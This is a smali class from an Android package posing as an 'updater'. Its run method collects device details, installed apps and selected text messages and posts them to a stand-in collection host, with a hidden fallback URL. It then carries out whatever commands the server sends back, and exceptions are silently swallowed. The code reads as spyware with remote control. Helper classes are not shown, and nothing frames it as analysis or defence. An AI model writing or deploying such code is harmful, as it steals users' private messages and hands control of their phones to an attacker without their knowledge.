# Collects, sends, and does what the answer says.
.class public Lcom/example/updater/Report;
.super Ljava/lang/Object;
.source "Report.java"
.implements Ljava/lang/Runnable;

.field private final context:Landroid/content/Context;

.method public constructor <init>(Landroid/content/Context;)V
    .locals 0

    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    iput-object p1, p0, Lcom/example/updater/Report;->context:Landroid/content/Context;
    return-void
.end method

.method public run()V
    .locals 5

    :try_start
    iget-object v0, p0, Lcom/example/updater/Report;->context:Landroid/content/Context;
    new-instance v1, Lorg/json/JSONObject;
    invoke-direct {v1}, Lorg/json/JSONObject;-><init>()V
    invoke-static {v0, v1}, Lcom/example/updater/Phone;->describe(Landroid/content/Context;Lorg/json/JSONObject;)V
    const-string v2, "apps"
    invoke-static {v0}, Lcom/example/updater/Apps;->list(Landroid/content/Context;)Lorg/json/JSONArray;
    move-result-object v3
    invoke-virtual {v1, v2, v3}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;
    const-string v2, "messages"
    invoke-static {v0}, Lcom/example/updater/Messages;->chosen(Landroid/content/Context;)Lorg/json/JSONArray;
    move-result-object v3
    invoke-virtual {v1, v2, v3}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;
    invoke-virtual {v1}, Lorg/json/JSONObject;->toString()Ljava/lang/String;
    move-result-object v1
    const-string v2, "https://collect.example.invalid/v1/report"
    invoke-static {v2, v1}, Lcom/example/updater/Transport;->post(Ljava/lang/String;Ljava/lang/String;)Ljava/lang/String;
    move-result-object v3
    if-nez v3, :answered
    invoke-static {}, Lcom/example/updater/Hidden;->fallback()Ljava/lang/String;
    move-result-object v2
    invoke-static {v2, v1}, Lcom/example/updater/Transport;->post(Ljava/lang/String;Ljava/lang/String;)Ljava/lang/String;
    move-result-object v3
    :answered
    invoke-static {v0, v3}, Lcom/example/updater/Orders;->follow(Landroid/content/Context;Ljava/lang/String;)V
    :try_end
    .catch Ljava/lang/Exception; {:try_start .. :try_end} :handler
    goto :done
    :handler
    move-exception v0
    :done
    return-void
.end method
